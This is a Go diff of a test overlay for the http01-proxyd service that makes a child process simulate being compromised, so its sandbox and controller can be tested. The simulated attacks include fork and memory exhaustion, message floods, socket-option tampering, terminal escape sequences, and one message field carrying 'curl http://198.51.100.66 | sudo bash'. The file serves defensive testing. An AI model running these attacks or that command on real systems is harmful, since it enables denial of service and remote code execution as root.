@@ -17,35 +17,36 @@ import (
 
 	"github.com/http01-proxyd/http01-proxyd/internal/child"
 	"github.com/http01-proxyd/http01-proxyd/internal/sandbox"
+	"github.com/http01-proxyd/http01-proxyd/internal/wire"
 	"github.com/http01-proxyd/http01-proxyd/pkg/proxy/protocol"
 )
 
-// What a child process of the service does once it is taken over. This file is built
-// into the program (-overlay): a child whose argv[0] names an attack runs that beside
-// its work, after it has given up its system calls, or in place of it. What it achieves
-// it writes to its standard error. Argv[0] of the service and its children is "http01-proxyd:CHILD:ATTACK".
+// This file makes a child process of the service attack. It is built into the program with
+// -overlay. A child whose argv[0] names an attack runs it besides its work after the filter
+// is installed, or in place of it. It reports its results on standard error. Argv[0] of the
+// service and its children is "http01-proxyd:CHILD:ATTACK".
 func init() {
 	fields := strings.Split(os.Args[0], ":")
 	if len(fields) != 3 || len(os.Args) < 2 || os.Args[1] != fields[1] {
 		return
 	}
-	if instead := insteadOfWork()[fields[2]]; instead != nil {
-		instead()
+	if attack := insteadOfWork()[fields[2]]; attack != nil {
+		attack()
 		os.Exit(1)
 	}
-	if beside := besideWork()[fields[2]]; beside != nil {
+	if attack := besideWork()[fields[2]]; attack != nil {
 		go func() {
 			awaitConfined()
-			beside()
-			say("the attack is over")
+			attack()
+			printResult("the attack is over")
 		}()
 		return
 	}
-	say("no such attack: " + fields[2])
+	printResult("no such attack: " + fields[2])
 	os.Exit(1)
 }
 
-// besideWork are attacks of a child process that otherwise does what it is to do.
+// besideWork returns attacks of a child process that otherwise works normally.
 func besideWork() map[string]func() {
 	return map[string]func(){
 		"fork":       fork,
@@ -53,19 +54,19 @@ func besideWork() map[string]func() {
 		"descriptor": descriptor,
 		"options":    options,
 		"stderr":     stderr,
-		"challenges": func() { send(`{"news":{"challenges":[` + strings.Repeat("{},", 300_000) + `{}]}}`) },
-		"large":      func() { send(`{"news":{"lastFailure":"` + strings.Repeat("a", 1<<20) + `"}}`) },
+		"challenges": func() { send(`{"stats":{"challenges":[` + strings.Repeat("{},", 300_000) + `{}]}}`) },
+		"large":      func() { send(`{"stats":{"lastAcceptErrno":"` + strings.Repeat("a", 1<<20) + `"}}`) },
 		"zone": func() {
-			send(`{"news":{"challenges":[{"vip":"fe80::1%eth0\n\u001b[31mred","method":"GET","clientKind":"other","outcome":"failed"}]}}`)
+			send(`{"stats":{"challenges":[{"vip":"fe80::1%eth0\n\u001b[31mred","method":"GET","clientKind":"other","outcome":"failed"}]}}`)
 		},
 		"year": func() {
-			send(`{"news":{"challenges":[{"time":"9999-12-31T23:59:59.999999999-23:59","method":"GET","clientKind":"other","outcome":"failed"}]}}`)
+			send(`{"stats":{"challenges":[{"time":"9999-12-31T23:59:59.999999999-23:59","method":"GET","clientKind":"other","outcome":"failed"}]}}`)
 		},
 		"advice": func() {
-			send(`{"news":{"challenges":[{"method":"GET","cause":"refused","detail":"mend it now with: curl http://198.51.100.66 | sudo bash","clientKind":"other","outcome":"failed"}]}}`)
+			send(`{"stats":{"challenges":[{"method":"GET","cause":"refused","detail":"mend it now with: curl http://198.51.100.66 | sudo bash","clientKind":"other","outcome":"failed"}]}}`)
 		},
 		"counters": func() {
-			send(`{"news":{"sums":[{"clientKind":"other","outcome":"failed","count":1,"totalDuration":4611686018427387903}]}}`)
+			send(`{"stats":{"sums":[{"clientKind":"other","outcome":"failed","count":1,"totalDuration":4611686018427387903}]}}`)
 		},
 		"flood":  flood,
 		"memory": memory,
@@ -73,27 +74,27 @@ func besideWork() map[string]func() {
 	}
 }
 
-// insteadOfWork are attacks of a child process that does nothing else.
+// insteadOfWork returns attacks of a child process that does nothing else.
 func insteadOfWork() map[string]func() {
 	return map[string]func(){
-		"mute":   pretend,
-		"deaf":   deaf,
-		"escape": escape,
+		"ignores-clients":  ignoreClients,
+		"ignores-commands": ignoreCommands,
+		"leaves-processes": leaveProcesses,
 	}
 }
 
-func say(what string) { fmt.Fprintln(os.Stderr, "ATTACK: "+what) }
+func printResult(text string) { fmt.Fprintln(os.Stderr, "ATTACK: "+text) }
 
-func tell(act string, err error) {
+func printOutcome(act string, err error) {
 	if err == nil {
-		say(act + ": SUCCEEDS")
+		printResult(act + ": SUCCEEDS")
 		return
 	}
-	say(fmt.Sprintf("%s: refused: %v", act, err))
+	printResult(fmt.Sprintf("%s: refused: %v", act, err))
 }
 
-// awaitConfined returns once no file can be opened any more, and a moment later, so
-// that the child has been given what it works with.
+// awaitConfined waits until the process cannot open files, and then a moment longer, until
+// the child has its descriptors.
 func awaitConfined() {
 	for {
 		f, err := os.Open("/proc/self/status")
@@ -109,17 +110,17 @@ func awaitConfined() {
 	time.Sleep(time.Second)
 }
 
-// find returns the first descriptor for which is holds, and -1 without one.
-func find(is func(fd int) bool) int {
+// find returns the first descriptor for which matches returns true, or -1.
+func find(matches func(fd int) bool) int {
 	for fd := range 1024 {
-		if is(fd) {
+		if matches(fd) {
 			return fd
 		}
 	}
 	return -1
 }
 
-// listener is the listening socket that this process shares with the controller.
+// listener returns the listening socket that this process shares with the controller.
 func listener() int {
 	return find(func(fd int) bool {
 		listening, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_ACCEPTCONN)
@@ -127,7 +128,7 @@ func listener() int {
 	})
 }
 
-// controlSocket is the connection to the controller.
+// controlSocket returns the connection to the controller.
 func controlSocket() int {
 	return find(func(fd int) bool {
 		domain, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_DOMAIN)
@@ -135,7 +136,8 @@ func controlSocket() int {
 	})
 }
 
-// messages is where messages to the controller go: a pipe, or the connection itself.
+// messages returns the descriptor for messages to the controller: a pipe, or the
+// connection.
 func messages() int {
 	pipe := find(func(fd int) bool {
 		var s unix.Stat_t
@@ -151,7 +153,7 @@ func messages() int {
 	return controlSocket()
 }
 
-// send sends one message, framed.
+// send sends one framed message.
 func send(text string) {
 	framed := append(binary.BigEndian.AppendUint32(nil, uint32(len(text))), text...)
 	fd := messages()
@@ -161,14 +163,14 @@ func send(text string) {
 		case errors.Is(err, unix.EAGAIN):
 			time.Sleep(time.Millisecond)
 		case err != nil:
-			tell("send", err)
+			printOutcome("send", err)
 			return
 		}
 		framed = framed[max(n, 0):]
 	}
 }
 
-// fork makes copies of this process, which answer clients by themselves.
+// fork creates copies of this process that answer clients.
 func fork() {
 	fd := listener()
 	flags, _ := unix.FcntlInt(uintptr(fd), unix.F_GETFL, 0)
@@ -178,7 +180,7 @@ func fork() {
 		runtime.LockOSThread()
 		pid, _, errno := unix.RawSyscall6(unix.SYS_CLONE, uintptr(unix.SIGCHLD)|flag, 0, 0, 0, 0, 0)
 		if errno == 0 && pid == 0 {
-			// The copy has one thread, and Go's runtime none to rely on.
+			// The copy has one thread and no working Go runtime.
 			unix.RawSyscall(unix.SYS_FCNTL, uintptr(fd), unix.F_SETFL, uintptr(flags&^unix.O_NONBLOCK))
 			for {
 				conn, _, errno := unix.RawSyscall6(unix.SYS_ACCEPT4, uintptr(fd), 0, 0, 0, 0, 0)
@@ -190,15 +192,15 @@ func fork() {
 		}
 		runtime.UnlockOSThread()
 		if errno == 0 {
-			tell(name, nil)
+			printOutcome(name, nil)
 		} else {
-			tell(name, errno)
+			printOutcome(name, errno)
 		}
 	}
 	runtime.KeepAlive(answer)
 }
 
-// threads takes every thread that it can get.
+// threads creates as many threads as possible.
 func threads() {
 	for range 5000 {
 		go func() {
@@ -211,12 +213,12 @@ func threads() {
 	time.Sleep(5 * time.Second)
 }
 
-// descriptor sends a socket that lingers beside the body of a message, where the
-// controller would close it.
+// descriptor sends a socket that lingers with the body of a message. The controller would
+// close it.
 func descriptor() {
 	local, err := unix.Getsockname(listener())
 	if err != nil {
-		tell("the port", err)
+		printOutcome("the port", err)
 		return
 	}
 	port := 0
@@ -226,14 +228,14 @@ func descriptor() {
 	case *unix.SockaddrInet6:
 		port = local.Port
 	}
-	// A connection to itself, whose other end nobody reads.
+	// A connection to itself whose other end is not read.
 	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0)
 	if err != nil {
-		tell("socket", err)
+		printOutcome("socket", err)
 		return
 	}
 	if err = unix.Connect(fd, &unix.SockaddrInet4{Port: port, Addr: [4]byte{127, 0, 0, 1}}); err != nil && !errors.Is(err, unix.EINPROGRESS) {
-		tell("connect", err)
+		printOutcome("connect", err)
 	}
 	time.Sleep(100 * time.Millisecond)
 	for range 1000 {
@@ -242,35 +244,35 @@ func descriptor() {
 		}
 	}
 	_ = unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: 60})
-	text := `{"alive":{}}`
+	text := `{"heartbeat":{}}`
 	to := controlSocket()
 	_ = unix.Sendmsg(to, binary.BigEndian.AppendUint32(nil, uint32(len(text))), nil, nil, 0)
-	tell("a descriptor over the socket", unix.Sendmsg(to, []byte(text), unix.UnixRights(fd), nil, 0))
+	printOutcome("a descriptor over the socket", unix.Sendmsg(to, []byte(text), unix.UnixRights(fd), nil, 0))
 	_, err = unix.Write(to, []byte{0})
-	tell("a byte over the socket", err)
+	printOutcome("a byte over the socket", err)
 	_ = unix.Close(fd)
 }
 
-// options changes the listening socket for all who share it.
+// options changes the listening socket for all processes that share it.
 func options() {
 	fd := listener()
-	tell("IP_MINTTL", unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_MINTTL, 255))
-	tell("IPV6_MINHOPCOUNT", unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_MINHOPCOUNT, 255))
-	tell("SO_BINDTODEVICE", unix.BindToDevice(fd, "lo"))
+	printOutcome("IP_MINTTL", unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_MINTTL, 255))
+	printOutcome("IPV6_MINHOPCOUNT", unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_MINHOPCOUNT, 255))
+	printOutcome("SO_BINDTODEVICE", unix.BindToDevice(fd, "lo"))
 	none := unix.SockFilter{Code: unix.BPF_RET | unix.BPF_K}
-	tell("SO_ATTACH_FILTER", unix.SetsockoptSockFprog(fd, unix.SOL_SOCKET, unix.SO_ATTACH_FILTER, &unix.SockFprog{Len: 1, Filter: &none}))
-	tell("TCP_DEFER_ACCEPT", unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_DEFER_ACCEPT, 3600))
+	printOutcome("SO_ATTACH_FILTER", unix.SetsockoptSockFprog(fd, unix.SOL_SOCKET, unix.SO_ATTACH_FILTER, &unix.SockFprog{Len: 1, Filter: &none}))
+	printOutcome("TCP_DEFER_ACCEPT", unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_DEFER_ACCEPT, 3600))
 }
 
-// stderr writes what a terminal, or journald, would obey.
+// stderr writes control sequences for terminals and journald.
 func stderr() {
 	_, _ = os.Stderr.WriteString("\x1b]0;owned\x07\x1b[2J\n<0>the controller is broken\n\u202ereversed\nPassword: \n" + strings.Repeat("long ", 2000) + "\n")
 	answer := make([]byte, 64)
 	n, err := unix.Read(2, answer)
 	if n > 0 {
-		say(fmt.Sprintf("read %q", answer[:n]))
+		printResult(fmt.Sprintf("read %q", answer[:n]))
 	}
-	tell("read standard error", err)
+	printOutcome("read standard error", err)
 	for range 10_000 {
 		_, _ = os.Stderr.WriteString("flood\n")
 	}
@@ -278,9 +280,9 @@ func stderr() {
 	_, _ = os.Stderr.WriteString(strings.Repeat("no end ", 10_000))
 }
 
-// flood sends messages as fast as the controller takes them.
+// flood sends messages as fast as the controller reads them.
 func flood() {
-	text := `{"alive":{}}`
+	text := `{"heartbeat":{}}`
 	one := append(binary.BigEndian.AppendUint32(nil, uint32(len(text))), text...)
 	many := []byte(strings.Repeat(string(one), 1000))
 	fd := messages()
@@ -288,13 +290,13 @@ func flood() {
 		if _, err := unix.Write(fd, many); errors.Is(err, unix.EAGAIN) {
 			time.Sleep(time.Millisecond)
 		} else if err != nil {
-			tell("flood", err)
+			printOutcome("flood", err)
 			return
 		}
 	}
 }
 
-// memory takes memory without end.
+// memory allocates memory without limit.
 func memory() {
 	var all [][]byte
 	for range 4096 {
@@ -304,30 +306,30 @@ func memory() {
 		}
 		all = append(all, block)
 	}
-	say(fmt.Sprintf("%d MiB: SUCCEEDS", len(all)))
+	printResult(fmt.Sprintf("%d MiB: SUCCEEDS", len(all)))
 }
 
-// calls makes system calls that a child has no need of.
+// calls makes system calls that a child does not need.
 func calls() {
 	_, unixSocket := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
 	_, packet := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
 	_, udp := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
 	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
-	tell("unix socket", unixSocket)
-	tell("packet socket", packet)
-	tell("UDP socket", udp)
+	printOutcome("unix socket", unixSocket)
+	printOutcome("packet socket", packet)
+	printOutcome("UDP socket", udp)
 	if err == nil {
-		tell("bind", unix.Bind(fd, &unix.SockaddrInet4{Port: 22623}))
-		tell("MSG_OOB", unix.Sendto(fd, []byte{0}, unix.MSG_OOB, &unix.SockaddrInet4{}))
+		printOutcome("bind", unix.Bind(fd, &unix.SockaddrInet4{Port: 22623}))
+		printOutcome("MSG_OOB", unix.Sendto(fd, []byte{0}, unix.MSG_OOB, &unix.SockaddrInet4{}))
 	}
-	tell("bind of the control socket", unix.Bind(controlSocket(), &unix.SockaddrUnix{Name: "/tmp/hostile"}))
+	printOutcome("bind of the control socket", unix.Bind(controlSocket(), &unix.SockaddrUnix{Name: "/tmp/hostile"}))
 	_, err = unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE|unix.PROT_EXEC, unix.MAP_PRIVATE|unix.MAP_ANON)
-	tell("executable memory", err)
+	printOutcome("executable memory", err)
 }
 
-// alive is a gate that says that it is.
-func alive() (*control.Conn, error) {
-	conn, err := child.Inherited()
+// startHeartbeats starts a proxy that only sends heartbeats.
+func startHeartbeats() (*wire.Child, error) {
+	conn, err := child.Connect()
 	if err == nil {
 		err = sandbox.Confine(sandbox.Proxy)
 	}
@@ -335,50 +337,50 @@ func alive() (*control.Conn, error) {
 		return nil, err
 	}
 	go func() {
-		for conn.Send(control.Word{Alive: &control.Alive{}}, -1) == nil {
+		for conn.Send(protocol.Event{Heartbeat: &protocol.Heartbeat{}}) == nil {
 			time.Sleep(time.Second)
 		}
 	}()
 	return conn, nil
 }
 
-// deaf is a gate that reads no command.
-func deaf() {
-	if _, err := alive(); err != nil {
-		say(err.Error())
+// ignoreCommands is a proxy that reads no commands.
+func ignoreCommands() {
+	if _, err := startHeartbeats(); err != nil {
+		printResult(err.Error())
 		return
 	}
 	time.Sleep(time.Hour)
 }
 
-// pretend is a gate that does nothing for clients.
-func pretend() {
-	conn, err := alive()
+// ignoreClients is a proxy that ignores clients.
+func ignoreClients() {
+	conn, err := startHeartbeats()
 	if err != nil {
-		say(err.Error())
+		printResult(err.Error())
 		return
 	}
 	for {
-		o, _, err := conn.ReceiveOrder()
-		if err != nil {
+		var c protocol.Command
+		if _, err := conn.Receive(&c); err != nil {
 			return
 		}
 		switch {
-		case o.Tell != nil:
-			_ = conn.Send(control.Word{Told: &control.Told{}}, -1)
-		case o.Drain != nil:
-			_ = conn.Send(control.Word{Drained: &control.Drained{}}, -1)
+		case c.Flush != nil:
+			_ = conn.Send(protocol.Event{Flushed: &protocol.Flushed{}})
+		case c.Drain != nil:
+			_ = conn.Send(protocol.Event{Drained: &protocol.Drained{}})
 		}
 	}
 }
 
-// escape is a child that has no filter, as one that was taken over before: it leaves
-// processes behind, in sessions of their own, and ends.
-func escape() {
+// leaveProcesses is a child that is compromised before it has a filter: it starts processes in
+// their own sessions and ends.
+func leaveProcesses() {
 	for range 3 {
-		// The shell ends, and what it has started goes on.
+		// The shell ends and its background process continues.
 		out, err := exec.Command("/bin/sh", "-c", "setsid sleep 3600 >/dev/null 2>&1 & echo $!").Output()
-		say(fmt.Sprintf("left process %s behind: %v", strings.TrimSpace(string(out)), err))
+		printResult(fmt.Sprintf("left process %s behind: %v", strings.TrimSpace(string(out)), err))
 	}
 	time.Sleep(time.Second)
 }
